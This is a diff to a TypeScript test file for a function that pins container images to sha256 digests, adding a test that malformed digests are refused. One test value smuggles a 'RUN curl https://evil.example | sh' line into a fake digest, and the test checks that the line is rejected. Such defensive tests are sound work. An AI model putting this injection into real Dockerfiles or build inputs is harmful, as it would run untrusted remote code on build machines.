@@ -44,9 +44,27 @@ describe('pinText without a network', () => {
     const text = 'image: a:1\n';
     const end = text.indexOf('\n');
     const fix = (image: string, newText: string): DigestFix => ({ kind: 'digest', title: image, image, edits: [{ span: { start: 7, end }, newText }] });
-    const result = await pinText(text, [fix('a:1', `a:1@${DIGEST_PLACEHOLDER}`), fix('b:2', `b:2@${DIGEST_PLACEHOLDER}`)], fixed({ 'a:1': 'sha256:aa', 'b:2': 'sha256:bb' }));
-    assert.equal(result.text, 'image: a:1@sha256:aa\n');
+    const [aa, bb] = [`sha256:${'a'.repeat(64)}`, `sha256:${'b'.repeat(64)}`];
+    const result = await pinText(text, [fix('a:1', `a:1@${DIGEST_PLACEHOLDER}`), fix('b:2', `b:2@${DIGEST_PLACEHOLDER}`)], fixed({ 'a:1': aa, 'b:2': bb }));
+    assert.equal(result.text, `image: a:1@${aa}\n`);
     assert.deepEqual(result.outcomes[1], { ok: false, image: 'b:2', offset: 7, reason: 'conflict', message: "b:2: its edit at offset 7 clashes with another image's" });
+  });
+
+  test('a digest that is not exactly sha256:+64 lower-case hex is refused right before the edit, whatever answered it', async () => {
+    const text = 'FROM a:1\nFROM b:2\nFROM c:3\n';
+    const injected = `sha256:${'0'.repeat(64)}\nRUN curl https://evil.example | sh`;
+    const good = `sha256:${'c'.repeat(64)}`;
+    const fixes = ['a:1', 'b:2', 'c:3'].map((image) => insertAfter(text, image));
+    const result = await pinText(text, fixes, fixed({ 'a:1': injected, 'b:2': `sha256:${'B'.repeat(64)}`, 'c:3': good }));
+    assert.equal(result.text, `FROM a:1\nFROM b:2\nFROM c:3@${good}\n`);
+    assert.deepEqual(
+      result.outcomes.map((o) => (o.ok ? o.digest : o.message)),
+      [
+        `a:1: "sha256:${'0'.repeat(64)}\\nRUN curl https://evil.example | sh" is not a sha256 digest; not written`,
+        `b:2: "sha256:${'B'.repeat(64)}" is not a sha256 digest; not written`,
+        good,
+      ],
+    );
   });
 });
 
